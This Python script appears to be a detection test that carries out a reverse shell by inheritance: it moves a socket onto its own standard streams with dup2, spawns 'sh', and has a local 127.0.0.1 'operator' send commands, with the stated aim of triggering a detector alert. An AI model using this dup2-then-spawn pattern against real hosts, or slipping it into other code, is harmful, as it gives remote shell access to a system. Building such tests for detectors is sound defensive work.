# technique: T1059.004 T1095
"""Reverse shell by inheritance: the parent puts the socket on its own 0/1/2, then starts a shell plainly (T1059.004, T1095).

The Python process dup2s the connected socket onto its own standard
input, output and error, calls subprocess.call(["sh"]) with no
redirection at all (the child simply inherits them), and then restores
its own descriptors. The process start carries no stdin/stdout
arguments; the socket got there earlier, in the parent.

A good detector raises a critical alert: a shell starts while its
parent's standard streams are a network socket.
"""
import os
import socket
import subprocess
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
sock = socket.create_connection(("127.0.0.1", port), timeout=5)
saved = [os.dup(fd) for fd in (0, 1, 2)]
try:
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    subprocess.call(["sh"], timeout=5)
finally:
    for fd, copy in zip((0, 1, 2), saved):
        os.dup2(copy, fd)
        os.close(copy)
sock.close()
operator.join(3)
print("operator transcript:", transcript)
